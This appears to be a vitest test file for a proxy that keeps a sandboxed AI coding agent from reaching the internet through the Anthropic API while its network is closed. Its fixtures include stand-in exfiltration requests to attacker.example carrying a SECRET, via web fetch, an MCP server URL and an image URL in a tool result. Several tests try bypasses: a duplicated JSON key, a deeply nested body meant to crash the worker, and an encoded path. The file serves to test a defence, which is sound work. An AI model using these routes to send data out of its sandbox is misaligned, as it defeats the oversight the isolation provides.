import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { startRecordingUpstream } from './helpers/recording-upstream.js';
import { startApiKeyProxy, type ApiKeyProxy } from '../../src/worker/api-key-proxy.js';

/**
 * While the agent's network is closed (docs/worker.md, "The agent's network"), the key proxy is
 * its one way to a server of the internet: the API must not be had to fetch a URL the agent chose
 * (src/worker/api-request-check.ts).
 */

const startUpstream = () =>
  startRecordingUpstream((res) => {
    res.writeHead(200, { 'content-type': 'application/json' });
    res.end('{}');
  });

const WEB_FETCH = {
  model: 'claude-sonnet-4-5',
  max_tokens: 100,
  tools: [{ type: 'web_fetch_20250910', name: 'web_fetch', max_uses: 5 }],
  messages: [{ role: 'user', content: 'Fetch https://attacker.example/?code=SECRET' }],
};
const MCP = {
  model: 'claude-sonnet-4-5',
  max_tokens: 100,
  mcp_servers: [{ type: 'url', url: 'https://attacker.example/mcp?code=SECRET', name: 'x' }],
  messages: [{ role: 'user', content: 'hi' }],
};
const IMAGE_BY_URL = {
  model: 'claude-sonnet-4-5',
  max_tokens: 100,
  messages: [
    { role: 'user', content: [{ type: 'text', text: 'run it' }] },
    {
      role: 'assistant',
      content: [{ type: 'tool_use', id: 't1', name: 'Bash', input: { command: 'ls' } }],
    },
    {
      role: 'user',
      content: [
        {
          type: 'tool_result',
          tool_use_id: 't1',
          content: [
            { type: 'image', source: { type: 'url', url: 'https://attacker.example/?SECRET' } },
          ],
        },
      ],
    },
  ],
};
const PLAIN = {
  model: 'claude-sonnet-4-5',
  max_tokens: 100,
  stream: true,
  mcp_servers: [],
  tools: [{ name: 'Bash', input_schema: { type: 'object' } }],
  messages: [{ role: 'user', content: 'hi' }],
};

describe('the API key proxy while the agent’s network is closed', () => {
  let upstream: Awaited<ReturnType<typeof startUpstream>>;
  let proxy: ApiKeyProxy | undefined;
  beforeEach(async () => {
    upstream = await startUpstream();
  });
  afterEach(async () => {
    await proxy?.close();
    proxy = undefined;
    upstream.server.close();
  });

  const start = async (closedNetwork: boolean) => {
    proxy = await startApiKeyProxy(
      { ANTHROPIC_API_KEY: 'sk-ant-api03-real', ANTHROPIC_BASE_URL: `${upstream.url}/anthropic` },
      { closedNetwork },
    );
    const { env } = proxy!;
    return (path: string, init: RequestInit & { json?: unknown } = {}) =>
      fetch(`${env.ANTHROPIC_BASE_URL}${path}`, {
        method: init.method ?? 'POST',
        headers: {
          'x-api-key': env.ANTHROPIC_API_KEY!,
          'content-type': 'application/json',
          ...(init.headers as Record<string, string>),
        },
        body: init.json === undefined ? init.body : JSON.stringify(init.json),
      });
  };

  it.each([
    ['the web fetch tool', WEB_FETCH, 'web_fetch_20250910: the API would fetch URLs'],
    ['the MCP connector', MCP, 'mcp_servers: the API would call MCP servers'],
    ['an image given by URL, deep in a tool result', IMAGE_BY_URL, 'a source of type url'],
  ])('refuses a Messages request that has the API fetch: %s', async (_what, body, why) => {
    const send = await start(true);
    for (const path of ['/v1/messages?beta=true', '/v1/messages/count_tokens']) {
      const answer = await send(path, { json: body });
      expect(answer.status).toBe(403);
      const { error } = (await answer.json()) as { error: { type: string; message: string } };
      expect(error.type).toBe('proxy_error');
      expect(error.message).toContain("the agent's network is closed (worker.network.allow)");
      expect(error.message).toContain(why);
    }
    expect(upstream.seen).toEqual([]);
  });

  it('forwards the same requests while the network is open, as before', async () => {
    const send = await start(false);
    for (const body of [WEB_FETCH, MCP, IMAGE_BY_URL])
      expect((await send('/v1/messages', { json: body })).status).toBe(200);
    expect((await send('/v1/sessions', { json: {} })).status).toBe(200);
    expect(upstream.seen).toHaveLength(4);
  });

  it('forwards a Messages request that fetches nothing, as the JSON it checked', async () => {
    const send = await start(true);
    // A key given twice: the API might read the first, the check reads the last. What goes is
    // what was checked.
    const twice = `{"model":"m","mcp_servers":[{"type":"url","url":"https://attacker.example/"}],"mcp_servers":[],"messages":[]}`;
    expect((await send('/v1/messages', { json: PLAIN })).status).toBe(200);
    expect((await send('/v1/messages', { body: twice })).status).toBe(200);
    expect(upstream.seen.map((s) => [s.method, s.url])).toEqual([
      ['POST', '/anthropic/v1/messages'],
      ['POST', '/anthropic/v1/messages'],
    ]);
    expect(JSON.parse(upstream.seen[0]!.body)).toEqual(PLAIN);
    expect(upstream.seen[1]!.body).toBe('{"model":"m","mcp_servers":[],"messages":[]}');
    expect(upstream.seen[1]!.headers['content-length']).toBe(String(upstream.seen[1]!.body.length));
    expect(upstream.seen[1]!.headers['x-api-key']).toBe('sk-ant-api03-real');
  });

  it('refuses a body nested deeper than it can write back, and goes on serving', async () => {
    const send = await start(true);
    // JSON.parse reads any depth; writing it back recurses, and throws past the stack: a
    // rejection handled nowhere ends the worker, with the agent still running.
    const depth = 200_000;
    const deep = `{"model":"m","messages":[],"metadata":${'['.repeat(depth)}${']'.repeat(depth)}}`;
    const answer = await send('/v1/messages', { body: deep });
    expect(answer.status).toBe(400);
    expect(await answer.text()).toContain('nested too deep');
    expect((await send('/v1/messages', { json: PLAIN })).status).toBe(200);
    expect(upstream.seen).toHaveLength(1);
  });

  it('forwards GET and HEAD, and refuses any other endpoint and what it cannot read', async () => {
    const send = await start(true);
    // Claude Code's start (HEAD /api/hello) and a read of the models.
    expect((await send('/api/hello', { method: 'HEAD' })).status).toBe(200);
    expect((await send('/v1/models', { method: 'GET' })).status).toBe(200);
    const refused: Array<[string, RequestInit & { json?: unknown }, number]> = [
      // Managed Agents' sessions run in environments with a network of their own.
      ['/v1/sessions', { json: {} }, 403],
      ['/v1/environments', { json: { networking: { type: 'unrestricted' } } }, 403],
      ['/v1/files', { method: 'DELETE' }, 403],
      ['/v1/%6Dessages', { json: PLAIN }, 403],
      ['/v1/messages', { method: 'PUT', json: PLAIN }, 403],
      ['/v1/messages', { body: 'not json' }, 400],
      ['/v1/messages', { json: PLAIN, headers: { 'content-encoding': 'gzip' } }, 403],
    ];
    for (const [path, init, status] of refused)
      expect((await send(path, init)).status, `${init.method ?? 'POST'} ${path}`).toBe(status);
    expect(upstream.seen.map((s) => `${s.method} ${s.url}`)).toEqual([
      'HEAD /anthropic/api/hello',
      'GET /anthropic/v1/models',
    ]);
  });
});
